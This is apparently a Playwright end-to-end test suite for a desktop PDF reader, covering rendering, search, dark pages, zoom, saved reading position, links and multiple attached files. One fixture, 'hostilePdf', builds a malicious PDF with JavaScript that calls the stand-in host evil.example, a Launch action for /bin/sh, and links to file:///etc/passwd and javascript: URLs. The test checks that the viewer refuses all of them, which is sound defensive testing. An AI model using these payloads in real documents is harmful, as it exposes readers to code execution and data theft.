import { rmSync } from 'node:fs'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib'
import type { Page } from '@playwright/test'
import { paperPdf, type PaperPdfOptions } from '../src/main/library/testing/paperPdf'
import { expect, SCREENSHOTS_DIR, test } from './fixtures'
import { onTop, seriousViolations } from './pageChecks'
import { launchApp, type LaunchedApp } from './harness'
import { attachToFirstPaper, firstPaperId, openReader } from './readerSteps'

async function attachPaper(app: LaunchedApp, options: PaperPdfOptions, photo = false) {
  const pdf = await paperPdf(options)
  const id = await attachToFirstPaper(app, photo ? await withPhoto(pdf.bytes) : pdf.bytes)
  return { id, pdf }
}

/** Where withPhoto draws its raster image on page 1 (PDF points, origin bottom left). */
const PHOTO = { x: 470, y: 728, width: 90, height: 45 }

/** The paper with a colourful raster image (a photo, as far as a PDF knows) on page 1. */
async function withPhoto(bytes: Uint8Array): Promise<Uint8Array> {
  const doc = await PDFDocument.load(bytes)
  const image = await doc.embedPng(gradientPng(90, 45))
  doc.getPage(0).drawImage(image, PHOTO)
  return doc.save()
}

/** A PNG of an RGB gradient, made by hand (zlib for the data, a table CRC for the chunks). */
function gradientPng(width: number, height: number): Uint8Array {
  const rows = Buffer.alloc((width * 3 + 1) * height)
  for (let y = 0; y < height; y++) {
    const row = y * (width * 3 + 1)
    for (let x = 0; x < width; x++) {
      rows[row + 1 + x * 3] = 40 + Math.round((200 * x) / width)
      rows[row + 2 + x * 3] = 160
      rows[row + 3 + x * 3] = 40 + Math.round((200 * y) / height)
    }
  }
  const table = Array.from({ length: 256 }, (_, n) => {
    let c = n
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1
    return c >>> 0
  })
  const crc = (data: Buffer) => {
    let c = 0xffffffff
    for (const byte of data) c = table[(c ^ byte) & 0xff]! ^ (c >>> 8)
    return (c ^ 0xffffffff) >>> 0
  }
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
    const head = Buffer.alloc(4)
    head.writeUInt32BE(data.length)
    const tail = Buffer.alloc(4)
    tail.writeUInt32BE(crc(body))
    return Buffer.concat([head, body, tail])
  }
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 2, 0, 0, 0], 8) // 8 bits, RGB
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

/** The colour of page 1's canvas at a point given in PDF points. */
function pixelAt(page: Page, x: number, y: number): Promise<number[]> {
  return page.locator('.pdf-page[data-page-number="1"] canvas').evaluate(
    (canvas: HTMLCanvasElement, [x, y]) => {
      const px = Math.round((x! / 612) * canvas.width)
      const py = Math.round(((792 - y!) / 792) * canvas.height)
      return [...canvas.getContext('2d')!.getImageData(px, py, 1, 1).data].slice(0, 3)
    },
    [x, y],
  )
}

function pageField(page: Page) {
  return page.getByRole('textbox', { name: /^Page \(of \d+\)$/ })
}

/** Security-policy refusals the page reported (there should be none). */
function watchCsp(page: Page): string[] {
  const refused: string[] = []
  page.on('console', (message) => {
    if (/Content Security Policy|Refused to/i.test(message.text())) refused.push(message.text())
  })
  return refused
}

test('the reader shows the first page, finds words on the text layer and darkens pages', async ({
  libraryDir,
}) => {
  const app = await launchApp({ libraryDir })
  const { page } = app
  const refused = watchCsp(page)
  await attachPaper(
    app,
    {
      pages: 3,
      seed: 7,
      title: 'Sparse Attention for Long Documents',
      bodyWords: [
        { word: 'zyxquorbance', page: 1 },
        { word: 'zyxquorbance', page: 2, hyphenate: true },
        { word: 'zyxquorbance', page: 3 },
      ],
    },
    true,
  )

  await expect(page.getByRole('button', { name: /Read the PDF/ })).toBeVisible()
  await openReader(page)
  const first = page.locator('.pdf-page[data-page-number="1"]')
  await expect(first).toHaveAttribute('data-rendered', 'true')
  await expect(pageField(page)).toHaveValue('1')
  await expect(page.getByText('of 3', { exact: true })).toBeVisible()
  // The text layer is real text, selectable, over the painted canvas.
  await expect(first.locator('.textLayer')).toContainText('Sparse Attention')
  expect(
    await page.evaluate(() => performance.getEntriesByName('margin:first-page-painted').length),
  ).toBeGreaterThan(0)
  expect(await pixelAt(page, 20, 20)).toEqual([255, 255, 255])
  const photoCentre = [PHOTO.x + PHOTO.width / 2, PHOTO.y + PHOTO.height / 2] as const
  const photo = await pixelAt(page, ...photoCentre)
  expect(photo[1]).toBeGreaterThan(140) // the gradient's green, not paper or ink
  await page.screenshot({ path: join(SCREENSHOTS_DIR, 'reader-light.png') })

  // Find: Ctrl+F, a count, the matches marked; Enter and Shift+Enter move between them.
  await page.keyboard.press('Control+f')
  const find = page.getByRole('searchbox', { name: 'Find in document' })
  await expect(find).toBeFocused()
  await find.fill('zyxquorbance')
  const count = page.locator('.pdf-find-count')
  await expect(count).toHaveText('1 of 3')
  await expect(first.locator('.pdf-mark.selected')).toHaveCount(1)
  await page.screenshot({ path: join(SCREENSHOTS_DIR, 'reader-find.png') })
  expect(await seriousViolations(page)).toEqual([])
  await find.press('Enter')
  await expect(count).toHaveText('2 of 3')
  await expect(pageField(page)).toHaveValue('2')
  // Hyphenated across a line end, the match is marked on both lines.
  const second = page.locator('.pdf-page[data-page-number="2"]')
  await expect(second.locator('.pdf-mark.selected')).toHaveCount(2)
  await expect(second.locator('.pdf-mark.selected').first()).toBeInViewport()
  await find.press('Enter')
  await expect(count).toHaveText('3 of 3')
  await find.press('Enter')
  await expect(count).toHaveText('1 of 3')
  await find.press('Shift+Enter')
  await expect(count).toHaveText('3 of 3')
  await find.fill('no such words anywhere')
  await expect(count).toHaveText('Not found')
  await expect(page.locator('.pdf-mark')).toHaveCount(0)
  await find.press('Escape')
  await expect(find).toBeHidden()

  // Dark pages: the paper turns dark, the text stays selectable.
  await page.locator('.pdf-scroller').focus()
  await page.keyboard.press('Home')
  await page.keyboard.press('Shift+I')
  await expect(page.locator('.pdf-reader.dark-pages')).toBeVisible()
  await expect
    .poll(async () => (await pixelAt(page, 20, 20)).reduce((a, b) => a + b))
    .toBeLessThan(120)
  // The raster image is kept as it is; only paper, text and vector drawings are darkened.
  expect(await pixelAt(page, ...photoCentre)).toEqual(photo)
  await page.screenshot({ path: join(SCREENSHOTS_DIR, 'reader-dark.png') })
  await page.keyboard.press('Shift+I')
  await expect(page.locator('.pdf-reader.dark-pages')).toHaveCount(0)

  // Full window hides the sidebar and the list; Esc leaves it; v goes back to the abstract.
  await page.keyboard.press('f')
  await expect(page.locator('.pdf-reader.full-window')).toBeVisible()
  const covered = (x: number, y: number) =>
    page.evaluate(([x, y]) => !!document.elementFromPoint(x!, y!)?.closest('.pdf-reader'), [x, y])
  expect(await covered(100, 400)).toBe(true) // the sidebar's place
  expect(await covered(400, 400)).toBe(true) // the list's place
  await page.keyboard.press('?')
  await expect(page.getByRole('dialog', { name: 'Keyboard shortcuts' })).toBeVisible()
  const dialog = (await page.getByRole('dialog').boundingBox())!
  const onTop = await page.evaluate(
    ([x, y]) => !!document.elementFromPoint(x!, y!)?.closest('[role="dialog"]'),
    [dialog.x + dialog.width / 2, dialog.y + dialog.height / 2],
  )
  expect(onTop).toBe(true) // over the full-window reader
  await expect(page.getByRole('dialog').getByText('Go to a page of the PDF')).toBeAttached()
  await page.keyboard.press('Escape')
  await expect(page.getByRole('dialog')).toBeHidden()
  await expect(page.locator('.pdf-reader.full-window')).toBeVisible()
  await page.keyboard.press('Escape')
  await expect(page.locator('.pdf-reader.full-window')).toHaveCount(0)
  await page.keyboard.press('v')
  await expect(page.getByRole('heading', { name: 'Abstract' })).toBeVisible()

  expect(refused).toEqual([])
  await app.close()
})

test('keys scroll, zoom and go to a page; the place survives a relaunch', async ({
  libraryDir,
}) => {
  let app = await launchApp({ libraryDir })
  let { page } = app
  const { id } = await attachPaper(app, { pages: 12, seed: 3 })
  await openReader(page)
  await expect(page.getByText('of 12', { exact: true })).toBeVisible()

  // Opened to read, the pages have the keyboard: the arrows and page keys scroll them.
  const scroller = page.locator('.pdf-scroller')
  await expect(scroller).toBeFocused()
  await page.keyboard.press('ArrowDown')
  await expect.poll(() => scroller.evaluate((el) => el.scrollTop)).toBeGreaterThan(0)
  await page.keyboard.press('PageDown')
  await expect.poll(() => scroller.evaluate((el) => el.scrollTop)).toBeGreaterThan(300)
  await page.keyboard.press('Space')
  await expect.poll(() => scroller.evaluate((el) => el.scrollTop)).toBeGreaterThan(900)
  await page.keyboard.press('Shift+Space')
  await expect.poll(() => scroller.evaluate((el) => el.scrollTop)).toBeLessThan(900)
  await page.keyboard.press('End')
  await expect(pageField(page)).toHaveValue('12')
  // Only pages near the pane are drawn; those left behind give their canvases up.
  await expect(page.locator('.pdf-page[data-page-number="12"]')).toHaveAttribute(
    'data-rendered',
    'true',
  )
  await expect(page.locator('.pdf-page[data-page-number="1"] canvas')).toHaveCount(0)
  expect(await page.locator('.pdf-page canvas').count()).toBeLessThanOrEqual(4)
  await page.keyboard.press('Home')
  await expect(pageField(page)).toHaveValue('1')

  // Zoom in by key; the zoom is shown and kept.
  const zoom = page.getByRole('combobox', { name: 'Zoom' })
  await expect(zoom).toHaveValue('fit-width')
  await page.keyboard.press('p')
  await expect(zoom).toHaveValue('fit-page')
  await page.keyboard.press('w')
  await expect(zoom).toHaveValue('fit-width')
  await page.keyboard.press('+')
  await expect(zoom).not.toHaveValue('fit-width')
  await page.keyboard.press('-')
  await page.keyboard.press('Control+=')
  const zoomed = await zoom.inputValue()
  expect(Number(zoomed)).toBeGreaterThan(0)
  // Ctrl+wheel zooms the pages a step (out, then back in).
  const box = (await scroller.boundingBox())!
  await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2)
  await page.keyboard.down('Control')
  await page.mouse.wheel(0, 100)
  await expect(zoom).not.toHaveValue(zoomed)
  await page.waitForTimeout(200)
  await page.mouse.wheel(0, -100)
  await page.keyboard.up('Control')
  await expect(zoom).toHaveValue(zoomed)

  // Go to page 7 with g, then a little down the page.
  await page.keyboard.press('g')
  await expect(pageField(page)).toBeFocused()
  await page.keyboard.type('7')
  await page.keyboard.press('Enter')
  await expect(pageField(page)).toHaveValue('7')
  await expect(page.locator('.pdf-page[data-page-number="7"]')).toHaveAttribute(
    'data-rendered',
    'true',
  )
  await scroller.evaluate((el) => (el.scrollTop += 150))
  const placeOf = () =>
    page.evaluate(() => {
      const scroller = document.querySelector('.pdf-scroller') as HTMLElement
      const seven = document.querySelector('.pdf-page[data-page-number="7"]') as HTMLElement
      return (scroller.scrollTop - seven.offsetTop) / seven.offsetHeight
    })
  const before = await placeOf()
  expect(before).toBeGreaterThan(0)
  // Quitting saves the place at once (the app's flush), without waiting for the pause.
  await page.evaluate(
    () => new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r))),
  )
  expect(await app.flushBeforeQuit()).toBe(true)
  const saved = app.library.getPaper(id).position
  expect(saved).toMatchObject({ page: 7, pageCount: 12, zoom: Number(zoomed) })
  expect(saved!.offset).toBeCloseTo(before, 2)
  // The list's row follows without a reload.
  await expect(page.getByRole('option').first()).toContainText('p. 7/12')
  await app.close()

  app = await launchApp({ libraryDir })
  page = app.page
  await openReader(page)
  await expect(pageField(page)).toHaveValue('7')
  await expect(page.getByRole('combobox', { name: 'Zoom' })).toHaveValue(zoomed)
  expect(await placeOf()).toBeCloseTo(before, 2)
  // Opened at the place, not scrolled there from page 1: page 1 was never painted.
  await expect(page.locator('.pdf-page[data-page-number="1"]')).not.toHaveAttribute(
    'data-rendered',
    'true',
  )
  await app.close()
})

test('the outline and internal links move within the PDF; a web link goes to the browser', async ({
  libraryDir,
}) => {
  const app = await launchApp({ libraryDir })
  const { page } = app
  const { pdf } = await attachPaper(app, { pages: 6, seed: 11, outline: true, links: true })
  await openReader(page)

  await page.keyboard.press('o')
  const outline = page.getByRole('navigation', { name: 'Outline' })
  await expect(outline).toBeVisible()
  const entry = pdf.outline!.find((e) => e.page >= 3)!
  await outline.getByRole('button', { name: entry.title, exact: true }).click()
  await expect(pageField(page)).toHaveValue(String(entry.page))
  await page.keyboard.press('f')
  await expect(page.locator('.pdf-reader.full-window')).toBeVisible()
  await expect(page.locator(`.pdf-page[data-page-number="${entry.page}"]`)).toHaveAttribute(
    'data-rendered',
    'true',
  )
  await page.screenshot({ path: join(SCREENSHOTS_DIR, 'reader-outline-full-window.png') })
  await page.keyboard.press('Escape')

  await page.keyboard.press('g')
  await page.keyboard.type('1')
  await page.keyboard.press('Enter')
  await expect(pageField(page)).toHaveValue('1')
  const first = page.locator('.pdf-page[data-page-number="1"]')
  await expect(first.locator('.pdf-link')).toHaveCount(2)
  expect(await seriousViolations(page)).toEqual([])
  const web = first.locator(`.pdf-link[title="${pdf.links!.url}"]`)
  await web.click()
  expect(app.openedUrls).toEqual([pdf.links!.url])
  const internal = first.locator('.pdf-link:not([title])')
  await internal.click()
  await expect(pageField(page)).toHaveValue(String(pdf.links!.gotoPage))
  await expect(page).toHaveURL(/127\.0\.0\.1:\d+\/$/)
  await app.close()
})

test('a warning stays in sight over the full-window reader, and its toolbar is not covered', async ({
  libraryDir,
}) => {
  // A library in a cloud-sync folder shows a warning from the start.
  const app = await launchApp({ libraryDir: join(libraryDir, 'Dropbox', 'Margin') })
  const { page } = app
  const alert = page.locator('.message-bar')
  await expect(alert).toContainText('Your library is in a Dropbox folder')
  await attachPaper(app, { pages: 3, seed: 5 })
  await openReader(page)
  await page.keyboard.press('f')
  const reader = page.locator('.pdf-reader.full-window')
  await expect(reader).toBeVisible()
  await expect(alert).toContainText('Your library is in a Dropbox folder')
  expect(await onTop(alert.getByRole('button', { name: 'Dismiss' }))).toBe(true)
  expect(await onTop(alert.locator('span'))).toBe(true)
  const toolbar = page.getByRole('toolbar', { name: 'PDF reader' })
  const back = toolbar.getByRole('button', { name: '← Abstract' })
  expect(await onTop(back)).toBe(true)
  expect(await onTop(toolbar.getByRole('button', { name: 'Full window' }))).toBe(true)
  const bar = (await alert.boundingBox())!
  expect((await reader.boundingBox())!.y).toBeCloseTo(bar.y + bar.height, 0)
  // Still the whole window below the bar: the sidebar's and the list's places are the reader's.
  const covered = (x: number, y: number) =>
    page.evaluate(([x, y]) => !!document.elementFromPoint(x!, y!)?.closest('.pdf-reader'), [x, y])
  expect(await covered(100, 400)).toBe(true)
  expect(await covered(400, 400)).toBe(true)
  await page.screenshot({ path: join(SCREENSHOTS_DIR, 'reader-full-window-message.png') })

  // Dismissed, the reader takes the top of the window back.
  await alert.getByRole('button', { name: 'Dismiss' }).click()
  await expect.poll(async () => (await reader.boundingBox())!.y).toBe(0)
  expect(await onTop(back)).toBe(true)
  await app.close()
})

test('a paper with two PDFs: the toolbar chooses the file; the place belongs to the file read', async ({
  libraryDir,
}) => {
  let app = await launchApp({ libraryDir })
  let { page } = app
  const id = await firstPaperId(app)
  const short = await paperPdf({ pages: 3, seed: 21 })
  const long = await paperPdf({ pages: 5, seed: 22 })
  await app.library.pdfs.attach(id, { name: 'preprint.pdf', data: short.bytes })
  await app.library.pdfs.attach(id, { name: 'camera-ready.pdf', data: long.bytes })
  await page.reload()
  await page.locator('html[data-ready]').waitFor({ state: 'attached' })
  await openReader(page)

  // The newest file (attached last) opens first; the choice names each by origin and pages.
  const choice = page.getByRole('combobox', { name: 'PDF file' })
  await expect(choice.locator('option')).toHaveText([
    'preprint.pdf · 3 pages',
    'camera-ready.pdf · 5 pages',
  ])
  await expect(choice.locator('option:checked')).toHaveText('camera-ready.pdf · 5 pages')
  await expect(page.getByText('of 5', { exact: true })).toBeVisible()

  // By keyboard: the arrow picks the other file, the choice keeps the focus.
  await choice.focus()
  await page.keyboard.press('ArrowUp')
  await expect(page.getByText('of 3', { exact: true })).toBeVisible()
  await expect(choice.locator('option:checked')).toHaveText('preprint.pdf · 3 pages')
  await expect(page.locator('.pdf-page')).toHaveCount(3)
  await expect(pageField(page)).toHaveValue('1')
  await expect(choice).toBeFocused()
  await page.screenshot({ path: join(SCREENSHOTS_DIR, 'reader-two-files.png') })
  expect(await seriousViolations(page)).toEqual([])
  await page.keyboard.press('ArrowDown')
  await expect(page.locator('.pdf-page')).toHaveCount(5)
  await expect(page.locator('.pdf-page[data-rendered="true"]').first()).toBeVisible()

  // Read to page 4 of the second file: the paper's place is saved there.
  await page.locator('.pdf-scroller').focus()
  await page.keyboard.press('g')
  await page.keyboard.type('4')
  await page.keyboard.press('Enter')
  await expect(pageField(page)).toHaveValue('4')
  // The jump by g alone is a place read.
  expect(await app.flushBeforeQuit()).toBe(true)
  expect(app.library.getPaper(id).position).toMatchObject({ page: 4, offset: 0, pageCount: 5 })

  // The first file starts at page 1 (the place is the other file's); back again, at page 4.
  await choice.selectOption({ label: 'preprint.pdf · 3 pages' })
  await expect(page.getByText('of 3', { exact: true })).toBeVisible()
  await expect(pageField(page)).toHaveValue('1')
  await choice.selectOption({ label: 'camera-ready.pdf · 5 pages' })
  await expect(page.getByText('of 5', { exact: true })).toBeVisible()
  await expect(pageField(page)).toHaveValue('4')
  // Only looking at the other file moved nothing.
  expect(app.library.getPaper(id).position).toMatchObject({ page: 4, pageCount: 5 })
  await app.close()

  // Reopened, the reader shows the file read last, at its place.
  app = await launchApp({ libraryDir })
  page = app.page
  await openReader(page)
  await expect(
    page.getByRole('combobox', { name: 'PDF file' }).locator('option:checked'),
  ).toHaveText('camera-ready.pdf · 5 pages')
  await expect(page.getByText('of 5', { exact: true })).toBeVisible()
  await expect(pageField(page)).toHaveValue('4')
  await app.close()
})

/**
 * A PDF that asks for everything a viewer must refuse: JavaScript on open and in the names
 * tree, a Launch action on page open, links that launch a program, run JavaScript and open
 * file: and javascript: URLs.
 */
async function hostilePdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create()
  const font = await doc.embedFont(StandardFonts.Helvetica)
  const page = doc.addPage([612, 792])
  page.drawText('Nothing here should run.', { x: 72, y: 700, size: 18, font })
  const { context } = doc
  const js = (code: string) =>
    context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) })
  const launch = context.obj({ Type: 'Action', S: 'Launch', F: PDFString.of('/bin/sh') })
  const code =
    "app.alert('pwned'); app.launchURL('https://evil.example/js', true); this.getURL('https://evil.example/get');"
  doc.catalog.set(PDFName.of('OpenAction'), context.register(js(code)))
  const names = context.obj({ Names: [PDFString.of('init'), context.register(js(code))] })
  doc.catalog.set(PDFName.of('Names'), context.obj({ JavaScript: context.register(names) }))
  page.node.set(PDFName.of('AA'), context.obj({ O: context.register(launch) }))
  const link = (y: number, action: ReturnType<typeof js>) =>
    context.register(
      context.obj({
        Type: 'Annot',
        Subtype: 'Link',
        Rect: [72, y, 400, y + 30],
        Border: [0, 0, 0],
        A: action,
      }),
    )
  const uri = (url: string) => context.obj({ Type: 'Action', S: 'URI', URI: PDFString.of(url) })
  page.node.set(
    PDFName.of('Annots'),
    context.obj([
      link(600, launch),
      link(550, js(code)),
      link(500, uri('file:///etc/passwd')),
      link(450, uri('javascript:alert(1)')),
    ]),
  )
  return doc.save()
}

test('a PDF with JavaScript, launch and URI actions runs nothing and opens nothing', async ({
  libraryDir,
}) => {
  const app = await launchApp({ libraryDir })
  const { page } = app
  const dialogs: string[] = []
  const popups: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  page.context().on('page', (popup) => popups.push(popup.url()))
  const requests: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith('http://127.0.0.1')) requests.push(request.url())
  })
  await attachToFirstPaper(app, await hostilePdf())
  const url = page.url()

  await openReader(page)
  const first = page.locator('.pdf-page[data-page-number="1"]')
  await expect(first.locator('.textLayer')).toContainText('Nothing here should run.')
  // None of its links is a link in the reader; clicking where they are does nothing.
  await expect(first.locator('.pdf-link')).toHaveCount(0)
  const box = (await first.boundingBox())!
  for (const y of [600, 550, 500, 450]) {
    await page.mouse.click(
      box.x + (100 / 612) * box.width,
      box.y + ((792 - y - 15) / 792) * box.height,
    )
  }
  await page.waitForTimeout(500)
  expect(dialogs).toEqual([])
  expect(popups).toEqual([])
  expect(requests).toEqual([])
  expect(app.openedUrls).toEqual([])
  expect(page.url()).toBe(url)
  await app.close()
})

test('a PDF larger than the first request is read by Range requests to the same handler', async ({
  libraryDir,
}) => {
  const app = await launchApp({ libraryDir })
  const { page } = app
  const pdf = await paperPdf({ pages: 4, seed: 21, title: 'A Paper With A Large Attachment' })
  // 5 MiB of incompressible bytes in a stream no page uses: the pages' objects and the
  // cross-reference table come after it, at the end of the file.
  const doc = await PDFDocument.load(pdf.bytes)
  const noise = new Uint8Array(5 << 20)
  for (let i = 0; i < noise.length; i++) noise[i] = (i * 2654435761) >>> 24
  doc.context.register(doc.context.stream(noise))
  const bytes = await doc.save({ useObjectStreams: false })
  expect(bytes.length).toBeGreaterThan(5 << 20)
  const ranges: Array<{ status: number; range: string | null }> = []
  page.on('response', (response) => {
    if (!response.url().includes('/__pdf/')) return
    void response
      .request()
      .headerValue('range')
      .then((range) => {
        ranges.push({ status: response.status(), range })
      })
  })
  await attachToFirstPaper(app, bytes)
  await openReader(page)
  await expect(page.locator('.pdf-page[data-page-number="1"] .textLayer')).toContainText(
    'A Paper With A Large Attachment',
  )
  expect(ranges.length).toBeGreaterThan(1)
  expect(ranges.every((r) => r.status === 206 && /^bytes=\d+-\d+$/.test(r.range ?? ''))).toBe(true)
  await app.close()
})

test('a PDF missing from the library folder says so instead of a blank reader', async ({
  libraryDir,
}) => {
  const app = await launchApp({ libraryDir })
  const { page } = app
  const { id } = await attachPaper(app, { pages: 2, seed: 4 })
  const [file] = app.library.getPaper(id).files
  rmSync(join(libraryDir, 'files', file!.sha256.slice(0, 2), `${file!.sha256}.pdf`))
  await page.getByRole('listbox', { name: 'Papers' }).focus()
  await page.keyboard.press('v')
  await expect(page.locator('.pdf-reader').getByRole('alert')).toHaveText(
    'The PDF is missing from the library folder (run “margin check”).',
  )
  await app.close()
})
